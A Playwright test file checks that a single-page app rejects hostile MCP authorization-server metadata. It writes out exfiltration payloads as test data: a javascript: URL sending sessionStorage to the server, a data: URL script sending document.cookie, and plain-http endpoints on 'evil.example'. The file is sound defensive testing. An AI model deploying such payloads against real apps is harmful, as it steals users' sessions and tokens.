import { expect, test } from '../fixtures';
import { MaliciousServer } from '../pages/malicious-server';

/**
 * One link (`/?mcp=<server>`) and a press on Connect is all a hostile MCP server needs to get
 * its metadata read. Its URLs must be refused where the SPA parses them: a `javascript:`
 * authorization endpoint would run the server's script in the SPA's origin (where the pending
 * flow and its PKCE verifier live), and plain http to another host would carry codes and tokens
 * in the clear. Each case is a real server on 127.0.0.1 whose metadata is otherwise valid.
 */
const cases: { title: string; field: string; value: (base: string) => string }[] = [
  {
    title: 'a javascript: authorization_endpoint that would send sessionStorage away',
    field: 'authorization_endpoint',
    value: (base) => `javascript:fetch('${base}/stolen?'+encodeURIComponent(JSON.stringify(sessionStorage)))//`,
  },
  {
    title: 'a data: authorization_endpoint',
    field: 'authorization_endpoint',
    value: (base) => `data:text/html,<script>fetch('${base}/stolen?'+document.cookie)</script>`,
  },
  {
    title: 'a plain-http authorization_endpoint on another host',
    field: 'authorization_endpoint',
    value: () => 'http://evil.example/authorize',
  },
  {
    title: 'a plain-http token_endpoint on another host',
    field: 'token_endpoint',
    value: () => 'http://evil.example/token',
  },
];

for (const c of cases) {
  test(`the SPA refuses ${c.title}`, async ({ page, env, home, browserLog }) => {
    const evil = await MaliciousServer.start((base) => ({ [c.field]: c.value(base) }));
    try {
      const refused = c.value(evil.url);
      await home.goto(evil.mcpUrl);
      await home.connect();

      await test.step('the timeline and the banner name the field and the refused URL', async () => {
        const step = home.step('as-metadata');
        await expect(step).toHaveAttribute('data-status', 'error');
        await expect(step).toContainText(`its ${c.field} "${refused}" is refused`);
        await expect(home.error).toContainText(c.field);
        await expect(home.error).toContainText(refused);
      });

      await test.step('the flow stopped there: no registration, no redirect, nothing stolen', async () => {
        await expect(home.step('register')).toHaveCount(0);
        await expect(home.step('authorize-redirect')).toHaveCount(0);
        const spaOrigin = new URL(env.spaUrl).origin;
        expect(new URL(page.url()).origin).toBe(spaOrigin);
        const elsewhere = browserLog.navigations.filter((u) => new URL(u).origin !== spaOrigin);
        expect(elsewhere).toEqual([]);
        expect(await home.pendingFlow()).toBeNull();
        expect(evil.requests.filter((r) => r.startsWith('POST /register'))).toEqual([]);
        expect(evil.stolen()).toEqual([]);
        // The discovery requests did reach the server: the refusal came from its answers.
        expect(evil.requests).toContain('GET /.well-known/oauth-authorization-server');
      });
    } finally {
      await evil.stop();
    }
  });
}
